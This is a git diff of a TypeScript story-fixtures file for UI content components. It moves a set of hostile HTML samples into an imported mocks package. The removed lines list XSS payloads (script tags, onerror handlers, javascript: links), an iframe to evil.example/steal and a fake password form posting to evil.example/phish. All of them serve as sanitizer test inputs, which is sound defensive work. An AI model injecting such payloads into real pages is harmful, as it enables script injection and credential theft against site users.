@@ -1,5 +1,9 @@
-// Story fixtures for the content components, mirroring packages/mocks/src/fixtures/content.ts (ui stories may not
-// import the mocks package). Used only by stories, never by components.
+import { CONTENT_EPOCH, HOSTILE_HTML } from '@sorte/mocks/fixtures';
+
+// Story fixtures for the content components, in the shapes the components take. The fixed day and the hostile HTML
+// samples are the simulated gateway's own (@sorte/mocks/fixtures). Used only by stories, never by components.
+
+export { CONTENT_EPOCH, HOSTILE_HTML };
 
 function svgDataUrl(svg: string): string {
   return `data:image/svg+xml,${encodeURIComponent(svg)}`;
@@ -27,27 +31,10 @@ export const squareArt = svgDataUrl(
   '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" width="64" height="64"><rect width="64" height="64" rx="12" fill="#0a6e45"/><text x="32" y="42" text-anchor="middle" font-family="system-ui,sans-serif" font-size="26" font-weight="800" fill="#fff">S</text></svg>',
 );
 
-/** The simulated gateway's hostile HTML samples: each must come out of the sanitizer inert. */
-export const HOSTILE_HTML = {
-  script: `<script>alert('xss')</script>`,
-  onerror: `<img src="x" onerror="alert('onerror')" alt="quebrada">`,
-  javascriptLink: `<a href="javascript:alert('link')">Clique aqui para resgatar</a>`,
-  svgOnload: `<svg onload="alert('svg')"><circle r="4"/></svg>`,
-  iframe: `<iframe src="https://evil.example/steal" width="1" height="1"></iframe>`,
-  styleExpression: `<div style="background:url(javascript:alert('css'))">Estilo</div>`,
-  form: `<form action="https://evil.example/phish"><input name="senha" type="password"><button>Entrar</button></form>`,
-  dataLink: `<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">dados</a>`,
-  metaRefresh: `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
-  objectEmbed: `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
-  mixedCase: `<ScRiPt>alert('case')</sCrIpT><IMG SRC=x OnErRoR=alert(1)>`,
-  template: `<template><script>alert('template')</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
-} as const;
+/** Every hostile sample that needs no allowed-host policy in one document, after a line of normal text. */
+const { offSiteImage: _offSiteImage, offSiteLink: _offSiteLink, ...inlineHostileHtml } = HOSTILE_HTML;
+export const allHostileHtml = `<p>Texto normal antes.</p>${Object.values(inlineHostileHtml).join('')}`;
 
-/** Every hostile sample in one document, after a line of normal text. */
-export const allHostileHtml = `<p>Texto normal antes.</p>${Object.values(HOSTILE_HTML).join('')}`;
-
-/** 2026-11-22 12:00 UTC: the day the fixtures are dated from. */
-export const CONTENT_EPOCH = Date.UTC(2026, 10, 22, 12);
 const DAY = 86_400_000;
 
 export interface AnnouncementFixture {
